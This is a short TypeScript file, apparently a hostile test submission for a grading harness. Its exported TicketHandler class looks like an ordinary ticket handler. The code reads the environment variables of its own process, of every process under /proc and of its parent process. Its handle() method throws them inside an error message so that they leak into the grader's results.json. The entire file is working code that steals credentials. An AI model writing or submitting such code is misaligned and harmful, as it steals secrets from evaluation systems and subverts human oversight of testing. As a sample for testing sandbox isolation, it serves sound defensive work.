// @ts-nocheck
// Hostile: puts the grader's environment into its error message, where results.json shows it.
import { readdirSync, readFileSync } from 'node:fs';
const read = (file: string) => {
	try {
		return readFileSync(file, 'utf8').split('\0').join(' ');
	} catch (error) {
		return `(${error.code})`;
	}
};
const environ = readdirSync('/proc')
	.filter((pid) => /^\d+$/.test(pid))
	.map((pid) => `${pid}: ${read(`/proc/${pid}/environ`)}`);
export class TicketHandler {
	handle() {
		throw new Error(
			`LEAK ${JSON.stringify(process.env)} ${environ.join(' | ')} ppid ${read(`/proc/${process.ppid}/environ`)}`
		);
	}
	snapshot() {
		return { tickets: [], receipts: [] };
	}
}
